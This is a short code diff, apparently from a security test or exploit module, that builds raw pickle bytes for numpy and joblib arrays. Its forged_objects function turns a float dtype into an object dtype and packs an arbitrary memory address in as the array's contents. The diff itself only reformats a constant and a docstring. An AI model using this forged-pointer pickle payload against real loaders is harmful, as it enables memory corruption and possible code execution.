@@ -17,7 +17,8 @@ from mtcnn_cpp.formats.pickles import unpickle
 FRAMED = b"\x80\x04"
 MULTIARRAY = b"cnumpy.core.multiarray\n"
 RECONSTRUCT = MULTIARRAY + b"_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
-FLOATS = b"cnumpy\ndtype\nX\x02\x00\x00\x00f4\x89\x88\x87R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+FLOATS = b"cnumpy\ndtype\nX\x02\x00\x00\x00f4\x89\x88\x87R"
+FLOATS += b"(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
 ENCODE = b"c_codecs\nencode\n"
 LATIN1 = b"X\x06\x00\x00\x00latin1"
 JOBLIB = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"
@@ -28,7 +29,7 @@ def text(words: str) -> bytes:
 
 
 def forged_objects(address: int) -> bytes:
-    """An array of one object whose type says, by its state, that it is stored as bytes: they are a pointer."""
+    """An array of one object whose type says, by its state, that it is stored as bytes: a pointer."""
     forged = FLOATS.replace(b"f4", b"O8")
     return RECONSTRUCT + b"(K\x01K\x01\x85" + forged + b"\x89C\x08" + struct.pack("<Q", address) + b"tb"
 
